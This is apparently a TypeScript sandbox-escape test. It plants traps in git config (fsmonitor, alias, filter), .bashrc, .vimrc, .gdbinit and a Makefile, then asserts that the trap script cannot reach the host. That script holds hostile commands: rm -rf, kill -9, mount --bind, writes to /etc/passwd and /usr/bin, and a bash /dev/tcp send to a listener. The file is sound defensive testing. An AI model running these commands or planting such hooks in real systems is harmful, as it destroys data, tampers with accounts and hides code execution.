/** What a visitor may leave for who comes to look, sprung in a real shell by careless hands. */
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { type AddressInfo, createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type TestContext, test } from 'node:test'
import { cageIds } from '../../src/cli/real-shell/ids.ts'
import {
  areGone,
  type Caged,
  cage,
  commandLine,
  hasProgram,
  hostMounts,
  processesWith,
} from './caged.ts'
import { noMountsOr } from './mounted.ts'

interface Trap {
  readonly name: string
  /** The program that springs it. */
  readonly by: string
  readonly plant: string
  readonly spring: string
}

/** `NAME` is the trap's. All of it happens at the top of the world. */
const TRAPS: readonly Trap[] = [
  {
    name: 'git-fsmonitor',
    by: 'git',
    plant: 'git init -q srv/a; git -C srv/a config core.fsmonitor "sh /mnt/honeypot/trap NAME;:"',
    spring: 'git -C srv/a status',
  },
  {
    name: 'git-alias',
    by: 'git',
    plant: 'git init -q srv/b; git -C srv/b config alias.st "!sh /mnt/honeypot/trap NAME"',
    spring: 'git -C srv/b st',
  },
  {
    name: 'git-filter',
    by: 'git',
    plant: `git init -q srv/c; git -C srv/c config filter.f.clean "sh /mnt/honeypot/trap NAME"
      echo '* filter=f' > srv/c/.gitattributes; echo x > srv/c/file`,
    spring: 'git -C srv/c add file',
  },
  {
    name: 'bashrc',
    by: 'bash',
    plant: 'echo sh /mnt/honeypot/trap NAME > root/.bashrc',
    spring: 'HOME=$PWD/root bash -ic true',
  },
  {
    name: 'vimrc',
    by: 'vim',
    plant: `echo 'call system("sh /mnt/honeypot/trap NAME")' > root/.vimrc`,
    spring: 'vim -u root/.vimrc -es +q',
  },
  {
    name: 'gdbinit',
    by: 'gdb',
    plant: 'echo shell sh /mnt/honeypot/trap NAME > root/.gdbinit',
    spring: 'HOME=$PWD/root gdb -batch',
  },
  {
    name: 'makefile',
    by: 'make',
    plant: `printf 'all:\\n\\tsh /mnt/honeypot/trap NAME\\n' > srv/Makefile`,
    spring: 'make -C srv',
  },
]

/** What can't be sprung: a name on the PATH, a hook, a start-up file of a shell that is not asked. */
const DEAD = `
  echo sh /mnt/honeypot/trap profile | tee root/.profile root/.bash_profile root/.bash_login etc/profile
  printf '#!/bin/sh\\nsh /mnt/honeypot/trap path\\n' > id; chmod 755 id; (PATH=.:$PATH; id -u); ./id
  mkdir -p srv/a/.git/hooks; cp id srv/a/.git/hooks/post-commit; git -C srv/a commit --allow-empty -m x`

/** Does what it can to the host, then stays, so that it can be looked at. */
const trapText = (aims: { folder: string; port: number; pid: number; token: string }): string => `
  setsid sh -c 'sleep 600; : ${aims.token}'"-$1" < /dev/null > /dev/null 2>&1 &
  exec < /dev/null > /dev/null 2>&1
  echo $1 > ${aims.folder}/sprung; echo $1 >> ${aims.folder}/precious; rm -rf ${aims.folder}
  kill -9 ${aims.pid}; mount --bind / /tmp; echo x >> /etc/passwd; echo x > /usr/bin/x
  bash -c 'echo $1 > /dev/tcp/127.0.0.1/${aims.port}'`

/** Plants by `plant`, springs all in a real shell, and looks at it from the host. */
const spring = async (
  t: TestContext,
  how: {
    readonly words: readonly string[]
    readonly plant: (script: string, session: Caged) => Promise<void>
  },
): Promise<void> => {
  const folder = mkdtempSync(join(tmpdir(), 'mimicry-precious-'))
  t.after(() => rmSync(folder, { recursive: true, force: true }))
  writeFileSync(join(folder, 'precious'), 'kept\n')
  let calls = 0
  const server = createServer(() => calls++).listen(0, '127.0.0.1')
  t.after(() => void server.close())
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  const token = `sprung-${process.pid}`
  const before = hostMounts()
  const accounts = readFileSync('/etc/passwd', 'utf8')

  const session = cage(t, how.words)
  const traps = TRAPS.filter(({ by }) => hasProgram(by))
  const text = trapText({ folder, port, pid: process.pid, token })
  const plants = traps.map(({ name, plant }) => plant.replaceAll('NAME', name))
  await how.plant(`cat > trap <<'END'\n${text}\nEND\n${plants.join('\n')}\n${DEAD}\n`, session)
  const springs = traps.map(({ spring }) => `( ${spring} ) < /dev/null`)
  // Nothing is kept from being sprung for comfort's sake.
  session.type(`unset GIT_CONFIG_COUNT; cd /mnt/honeypot\n${springs.join('\n')}\necho "spr""ung"\n`)
  await session.heard(/sprung/)
  assert.deepEqual(hostMounts(), before)

  const { uid, gid } = cageIds()
  const statuses = [...processesWith(token)]
  const sprung = statuses.map(([words]) => words.split(`${token}-`)[1]?.trim()).sort()
  assert.deepEqual(sprung, traps.map(({ name }) => name).sort())
  for (const [, status] of statuses) {
    const line = (name: string) => status.match(new RegExp(`^${name}:\\s+(.*)$`, 'm'))?.[1]
    assert.equal(line('Uid'), Array(4).fill(uid[0]).join('\t'))
    assert.equal(line('Gid'), Array(4).fill(gid[0]).join('\t'))
    assert.equal(line('CapEff'), '00000000800000ff')
    assert.deepEqual([line('NoNewPrivs'), line('Seccomp')], ['1', '2'])
  }
  session.server.stdin?.end()
  const { how: status } = await session.ended
  assert.equal(status, 0)
  assert(await areGone(token), 'a planted process lives on')
  assert.equal(calls, 0)
  assert.deepEqual(readdirSync(folder), ['precious'])
  assert.equal(readFileSync(join(folder, 'precious'), 'utf8'), 'kept\n')
  assert.equal(readFileSync('/etc/passwd', 'utf8'), accounts)
  assert.deepEqual(hostMounts(), before)
}

test(
  'traps planted in a world run as nobody and reach nothing',
  { skip: noMountsOr('python3', 'git') },
  (t) =>
    spring(t, {
      words: commandLine(t),
      plant: async (script, session) => session.type(script),
    }),
)
